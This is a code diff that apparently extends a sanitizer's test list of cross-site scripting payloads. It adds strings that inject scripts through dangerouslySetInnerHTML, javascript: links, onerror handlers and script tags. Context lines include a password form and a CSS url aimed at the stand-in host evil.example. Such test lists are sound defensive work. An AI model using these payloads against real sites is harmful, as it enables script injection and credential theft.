@@ -25,6 +25,8 @@ const attacks = [
 	'<meta httpEquiv="refresh" content="0;url=javascript:alert(1)" />',
 	'<form action="https://evil.example"><input name="password" /><button formAction="javascript:alert(1)">x</button></form>',
 	'<div style={{ background: "url(https://evil.example)" }} dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }}>x</div>',
+	'<p dangerouslySetInnerHTML={{ __html: `<a href="javascript:alert(1)" onclick="alert(1)">x</a><img src=x onerror=alert(1)><svg><script>alert(1)</script></svg>` }} />',
+	'<script dangerouslySetInnerHTML={{ __html: "alert(1)" }} />',
 	'<div {...{ onClick: "alert(1)", style: "x", srcdoc: "x" }}>x</div>',
 	'<math><mtext><script>alert(1)</script></mtext></math>',
 	'$\\href{javascript:alert(1)}{x}$ and $\\htmlStyle{x}{y}$',
